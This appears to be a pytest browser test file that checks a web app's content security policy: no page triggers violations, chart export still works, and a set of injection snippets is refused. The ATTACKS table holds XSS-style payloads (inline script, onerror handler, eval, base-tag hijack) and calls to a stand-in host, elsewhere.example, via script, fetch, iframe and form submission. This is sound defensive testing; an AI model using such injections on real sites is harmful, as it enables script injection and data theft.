"""The content security policy in a real browser: pages never violate it, and what strangers bring in does nothing."""

from collections.abc import Iterator
from typing import Any

import pytest

from tests.browser.reader import Reader
from tests.browser.test_every_page import addresses, settles

__all__ = ["addresses"]  # a fixture
pytestmark = pytest.mark.browser
RECORD = """
    window.violations = [];
    document.addEventListener("securitypolicyviolation",
        (event) => window.violations.push(`${event.effectiveDirective}: ${event.blockedURI}`));
"""
PICTURE = """
    const [done] = [...arguments].slice(-1);
    Plotly.toImage(document.querySelector("#market-chart .js-plotly-plot"), {format: "png"})
        .then((address) => done(address.slice(0, 14)), (error) => done(String(error)));
"""
# What somebody could do who has brought markup or code into a page; each sets `taken` where it succeeds.
ATTACKS = {
    "script-src-elem: inline": """
        const script = document.createElement("script");
        script.textContent = "window.taken = true";
        document.body.append(script);""",
    "script-src-attr: inline": """
        const image = document.createElement("img");
        image.setAttribute("onerror", "window.taken = true");
        image.src = "/assets/nothing.png";
        document.body.append(image);""",
    "script-src: eval": """
        setTimeout(() => { try { (0, eval)("window.taken = true"); } catch (error) { /* refused */ } }, 0);""",
    "script-src-elem: https://elsewhere.example/x.js": """
        const script = document.createElement("script");
        script.src = "https://elsewhere.example/x.js";
        document.body.append(script);""",
    "connect-src: https://elsewhere.example/": """
        fetch("https://elsewhere.example/").then(() => { window.taken = true; }, () => null);""",
    "img-src: https://elsewhere.example/x.png": """
        const image = new Image();
        image.onload = () => { window.taken = true; };
        image.src = "https://elsewhere.example/x.png";""",
    "img-src: http://cards.scryfall.io/x.png": """
        const image = new Image();
        image.src = "http://cards.scryfall.io/x.png";""",
    "img-src: https://cards.scryfall.io/x.png": """
        const image = new Image();
        image.src = "https://cards.scryfall.io/x.png";""",
    "base-uri: https://elsewhere.example/": """
        const base = document.createElement("base");
        base.href = "https://elsewhere.example";
        document.head.append(base);""",
    "frame-src: https://elsewhere.example": """
        const frame = document.createElement("iframe");
        frame.src = "https://elsewhere.example";
        document.body.append(frame);""",
    "form-action: https://elsewhere.example/?": """
        const form = document.createElement("form");
        form.action = "https://elsewhere.example/";
        document.body.append(form);
        form.submit();""",
}


@pytest.fixture
def watched(reader: Reader) -> Iterator[Reader]:
    """A reader whose pages keep what their policy has refused."""
    added = reader.driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": RECORD})
    yield reader
    reader.driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", {"identifier": added["identifier"]})


def violations(reader: Reader) -> list[Any]:
    """What the policy of the page has refused."""
    found: list[Any] = reader.run("return window.violations")
    return found


def test_no_page_violates_its_policy(watched: Reader, addresses: list[str]) -> None:
    for address in (*addresses, "/api/docs"):
        watched.open(address)
        settles(watched, address)
        assert violations(watched) == [], address


def test_a_chart_can_still_be_saved_as_a_picture(watched: Reader) -> None:
    watched.open("/market")
    watched.lines("market-chart")
    assert watched.driver.execute_async_script(PICTURE) == "data:image/png"
    assert violations(watched) == []


@pytest.mark.parametrize("refused", ATTACKS)
def test_what_strangers_bring_into_a_page_does_nothing(watched: Reader, refused: str) -> None:
    watched.open("/market")
    settles(watched, "/market")
    watched.run(ATTACKS[refused])
    watched.wait(lambda: refused in violations(watched), refused)
    assert watched.run("return window.taken") is None
    watched.complaints()  # of this very refusal
